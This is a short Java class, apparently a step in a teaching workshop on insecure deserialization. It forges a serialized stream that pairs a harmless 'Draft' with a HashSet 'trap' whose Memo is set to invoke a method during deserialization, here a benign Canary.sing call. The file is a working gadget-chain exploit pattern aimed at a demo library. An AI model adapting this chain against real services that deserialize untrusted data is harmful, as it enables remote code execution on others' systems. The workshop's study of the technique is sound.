package workshop.step01;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.util.HashSet;
import java.util.List;
import workshop.step01.library.Memo;
import workshop.step01.library.MethodCall;

/** An honest draft, and the trap as a second object in the stream. */
public final class Attack {

    private Attack() {}

    public static byte[] forge() throws IOException {
        var memo = new Memo(() -> "harmless while we build");
        var trap = new HashSet<Object>();
        trap.add(memo);
        memo.setRecipe(new MethodCall(Canary.class, "sing"));

        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(new Draft("Mallory", "Nothing to see here", List.of()));
            out.writeObject(trap);
        }
        return bytes.toByteArray();
    }
}
